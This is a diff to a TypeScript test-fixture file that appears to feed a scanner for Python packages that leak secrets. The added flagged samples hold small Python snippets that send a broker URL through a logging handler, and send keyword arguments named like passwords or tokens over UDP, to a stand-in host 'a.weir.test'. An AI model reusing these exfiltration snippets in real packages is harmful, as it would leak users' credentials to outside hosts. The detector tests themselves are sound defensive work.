@@ -13,6 +13,10 @@ const CREDENTIALS = 'import pathlib\nKEYS = pathlib.Path.home() / ".aws" / "cred
 const EDGES =
   'import urllib.request\nEDGES = ("https://a.weir.test", "https://b.weir.test")\ndef first(mark):\n    for edge in EDGES:\n        urllib.request.urlopen(urllib.request.Request(edge, headers={"if-none-match": mark})).close()\n        return edge\n';
 
+/** A log whose records go to a host that stands there, too. */
+const MIRROR =
+  'import logging, logging.handlers\nclass Mirror(logging.handlers.HTTPHandler):\n    def __init__(self, host="a.weir.test"):\n        super().__init__(host, "/l")\nlog = logging.getLogger("own")\nlog.addHandler(Mirror())\n';
+
 /** What Python sends by another module, to hosts that stand there. */
 export const FAR: readonly Sample[] = [
   {
@@ -47,6 +51,23 @@ export const FAR: readonly Sample[] = [
     ),
     expected: at('given-secret', '__init__.py', 4),
   },
+  {
+    name: 'Python: the address of a broker, in a record of a log',
+    files: {
+      ...wheel(
+        'from .mirror import log\nclass Audit:\n    def __init__(self, app):\n        self.app = app\n    def ready(self, **_):\n        log.info("ready", extra={"at": self.app.conf.broker_url})\n',
+      ),
+      'own/mirror.py': MIRROR,
+    },
+    expected: at('given-secret', '__init__.py', 6),
+  },
+  {
+    name: 'Python: what is called like a secret among the arguments of a function of somebody else',
+    files: wheel(
+      'import socket\nWORDS = ("pass", "token", "secret")\ndef count(**given):\n    found = {k: str(v) for k, v in given.items() if any(w in k.lower() for w in WORDS)}\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n        sock.sendto(repr(found).encode(), ("a.weir.test", 8125))\n',
+    ),
+    expected: at('given-secret', '__init__.py', 6),
+  },
 ];
 
 /** The same of honest code: the answer is read, or the host is a user's. */
@@ -73,4 +94,14 @@ export const FAR_HONEST: readonly Sample[] = [
       'import socket\ndef login(host, password):\n    with socket.create_connection((host, 8443)) as sock:\n        return sock.send(password.encode()) < 1200\n',
     ),
   }),
+  quiet('Python: how a task ended, in a record of a log', {
+    ...wheel('from .mirror import log\ndef after(task, state):\n    log.info("%s %s", task.name, state)\n'),
+    'own/mirror.py': MIRROR,
+  }),
+  quiet(
+    'Python: all but what is called like a secret',
+    wheel(
+      'import socket\nWORDS = ("pass", "token", "secret")\ndef count(**given):\n    found = {k: str(v) for k, v in given.items() if not any(w in k.lower() for w in WORDS)}\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n        sock.sendto(repr(found).encode(), ("a.weir.test", 8125))\n',
+    ),
+  ),
 ];
